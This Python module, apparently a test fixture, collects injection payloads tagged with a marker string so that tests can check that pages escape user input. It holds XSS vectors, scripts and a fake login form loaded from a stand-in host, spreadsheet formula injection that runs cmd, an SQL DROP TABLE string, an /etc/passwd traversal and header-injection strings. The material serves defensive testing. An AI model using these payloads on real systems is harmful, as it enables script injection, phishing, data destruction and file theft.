"""What somebody may put into a title, a name, a reason, an address, so that a page does what it should not.

Each bears MARK where a page that does not escape would make an element, an attribute or a header of it: no page may
have an element or attribute with that in its name, run it, or ask another host for it. Our own list, by kind.
"""

MARK = "olx7"
ELSEWHERE = "http://olx7.example"

# Elements that a page must not grow.
ELEMENTS = (
    "<olx7>",
    "</title><olx7>",
    "</textarea></option></select><olx7>",
    "<script>alert('olx7')</script>",
    "<ScRiPt>alert('olx7')</sCrIpT>",
    "<script src=http://olx7.example/x.js></script>",
    "<script\t\n src='//olx7.example/x.js'></script >",
    "<scr<script>ipt>alert('olx7')</scr</script>ipt>",
    "<<script>alert('olx7')//<</script>",
    "<img src=x onerror=alert('olx7')>",
    "<img src=http://olx7.example/pixel.gif>",
    "<img/src='x'/onerror='alert(`olx7`)'/olx7>",
    "<iframe src=javascript:alert('olx7')></iframe>",
    "<iframe srcdoc='<script>alert(\"olx7\")</script>'></iframe>",
    "<object data=http://olx7.example></object>",
    "<embed src=http://olx7.example>",
    "<base href=http://olx7.example/>",
    "<meta http-equiv=refresh content='0;url=http://olx7.example'>",
    "<link rel=stylesheet href=http://olx7.example/x.css>",
    "<form action=http://olx7.example><input name=olx7><button>Log in</button></form>",
    "<body onload=alert('olx7')>",
    "<details open ontoggle=alert('olx7')>",
    "<video><source onerror=alert('olx7')></video>",
    "<marquee onstart=alert('olx7')>olx7</marquee>",
    "<style>@import 'http://olx7.example/x.css';</style>",
    "<template><olx7></template>",
    "<!--><olx7>-->",
    "--><olx7><!--",
    "<![CDATA[<olx7>]]>",
    "<?olx7 alert('olx7')?>",
)
# SVG and MathML bring rules of their own.
DRAWN = (
    "<svg onload=alert('olx7')>",
    "<svg><script>alert('olx7')</script></svg>",
    "<svg><animate onbegin=alert('olx7') attributeName=x dur=1s>",
    "<svg><foreignObject><olx7></foreignObject></svg>",
    "<svg><use href='http://olx7.example/x.svg#y'/></svg>",
    "<svg><a xlink:href='javascript:alert(`olx7`)'><text>olx7</text></a></svg>",
    "<math><mtext><olx7></mtext></math>",
    "</svg><olx7>",
)
# Out of an attribute, quoted or not.
BREAKERS = (
    '"><olx7>',
    "'><olx7>",
    "><olx7>",
    '" olx7="1',
    "' olx7='1",
    "` olx7=`1",
    " olx7=1 ",
    "\" autofocus onfocus=\"alert('olx7')",
    '" style="background:url(http://olx7.example)',
    "\"\tonmouseover\n=\n\"alert('olx7')",
    '\\"><olx7>',
    "&quot;><olx7>",
    '" hx-get="http://olx7.example" hx-trigger="load',
    '" hx-on:load="alert(\'olx7\')" data-olx7="',
)
# Addresses that are none of the web.
ADDRESSES = (
    "javascript:alert('olx7')",
    "JaVaScRiPt:alert('olx7')",
    "java\tscript:alert('olx7')",
    "\x01javascript:alert('olx7')",
    " javascript:alert('olx7')",
    "javascript://olx7.example/%0aalert('olx7')",
    "data:text/html,<script>alert('olx7')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnb2x4NycpPC9zY3JpcHQ+",
    "vbscript:msgbox('olx7')",
    "//olx7.example/",
    'http://olx7.example/"><olx7>',
    "https://user:olx7@olx7.example/?a=1&b=<olx7>",
)
# What a template, a sheet, a shell or a database may take for its own.
LANGUAGES = (
    "olx7{{7*7}}",
    "olx7{% raw %}{{7*7}}",
    "olx7${7*7}#{7*7}<%= 7*7 %>",
    "{{ visit.request.app.state.olx7 }}",
    "{{ ''.__class__.__mro__ }}olx7",
    '=HYPERLINK("http://olx7.example";"olx7")',
    "+cmd|' /C calc'!A0 olx7",
    "@SUM(1+1)*olx7",
    "'; DROP TABLE contact; -- olx7",
    "%s%n%x olx7 {0} {name}",
    "../../../../etc/passwd olx7",
    "expression(alert('olx7'))",
)
# Signs that hide, turn round, end or fill a line.
SIGNS = (
    "olx7\r\nX-Olx7: 1",
    "olx7\nSet-Cookie: olx7=1",
    "olx7\r\n\r\n<olx7>",
    "olx7%0d%0aX-Olx7:%201",
    "olx7\u2028\u2029alert(1)",
    "\u202eolx7<olx7>\u202c",
    "\u2066\u2067olx7\u2069\u200f",
    "olx7\u200b\u200d\ufeff<\u200bolx7>",
    "\uff1colx7\uff1e\uff02",
    "olx7\x00<olx7>",
    "olx7\x1b[31m\x07\x7f<olx7>",
    "olx7\ufffe\uffff\U0010ffff",
    "%3Colx7%3E%22%27",
    "&lt;olx7&gt;&#60;olx7&#62;",
    "&#x3c;olx7&#x3e;",
    "\xc0\xbcolx7\xc0\xbe",
    "+ADw-olx7+AD4-",
    "olx7" + "\u0301" * 300,
    "<olx7>" * 200,
    "olx7" + "W" * 5000,
    "olx7 😀👩‍👩‍👧‍👦 <olx7>",
)

PAYLOADS: tuple[str, ...] = (*ELEMENTS, *DRAWN, *BREAKERS, *ADDRESSES, *LANGUAGES, *SIGNS)
